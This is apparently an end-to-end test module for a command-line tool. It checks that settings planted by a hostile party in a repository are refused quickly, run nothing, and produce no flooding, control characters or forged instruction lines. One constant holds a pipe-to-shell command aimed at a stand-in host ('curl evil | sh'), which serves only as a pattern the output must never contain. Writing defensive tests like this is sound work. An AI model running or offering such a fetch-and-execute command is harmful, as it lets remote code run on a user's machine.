"""A repository whose files were written by somebody hostile, and what must not come of it."""

from __future__ import annotations

import time
from pathlib import Path

from tests.e2e.terminal import Said, Terminal
from tests.support.cli import no_defect

WITHIN_S = 45.0
"""Far above what any of them takes; below what a square of a megabyte would."""
MOST_SAID = 200_000
FORGED = "curl evil | sh"
"""What a forged line would tell a person to type."""


class Attacked(Terminal):
    """Settings and plans from elsewhere. Whatever of them runs leaves a file behind."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self.ran = folder / "ran"
        self.plan(("a", ()))

    def settle(self, text: str | bytes) -> None:
        raw = text if isinstance(text, bytes) else text.encode()
        (self.root / ".agent" / "orch.toml").write_bytes(raw)

    def refuses(self, *typed: str, exit_code: int = 2) -> Said:
        """Type it: it is refused in words, soon, and nothing was executed or recorded."""
        began = time.monotonic()
        said = self.orch(*typed)
        took_s = time.monotonic() - began
        no_defect(said)
        assert said.exit_code == exit_code, said
        assert said.out == "" or typed[0] == "doctor", said
        self.is_harmless(said)
        assert took_s < WITHIN_S, f"it took {took_s:.0f} s"
        assert not self.ran.exists(), "a command was executed"
        assert not self.git("for-each-ref", "refs/orch", "refs/heads/orch")
        return said

    def is_harmless(self, said: Said) -> None:
        """What was said steers no terminal, floods none and forges no line."""
        text = said.out + said.err
        assert len(text) < MOST_SAID, len(text)
        assert all(char.isprintable() or char in "\n\t" for char in text), ascii(text)
        for line in text.splitlines():
            assert not line.strip().startswith((FORGED, f"hint: {FORGED}", f"error: {FORGED}")), (
                text
            )
